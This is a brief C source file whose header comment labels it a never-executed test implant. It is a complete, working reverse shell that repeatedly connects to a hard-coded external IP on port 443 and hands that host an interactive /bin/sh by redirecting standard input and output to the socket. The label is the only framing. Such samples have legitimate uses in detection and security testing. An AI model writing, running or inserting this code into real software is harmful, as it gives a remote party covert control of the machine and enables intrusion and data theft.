/* Test implant (never executed): a reverse shell to a hard-coded address. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char c2[] = "185.243.115.84";

int main(void)
{
	struct sockaddr_in a;
	int s;
	for (;;) {
		s = socket(AF_INET, SOCK_STREAM, 0);
		memset(&a, 0, sizeof(a));
		a.sin_family = AF_INET;
		a.sin_port = htons(443);
		inet_pton(AF_INET, c2, &a.sin_addr);
		if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
			dup2(s, 0);
			dup2(s, 1);
			dup2(s, 2);
			execl("/bin/sh", "sh", "-i", (char *)0);
		}
		close(s);
		sleep(60);
	}
}
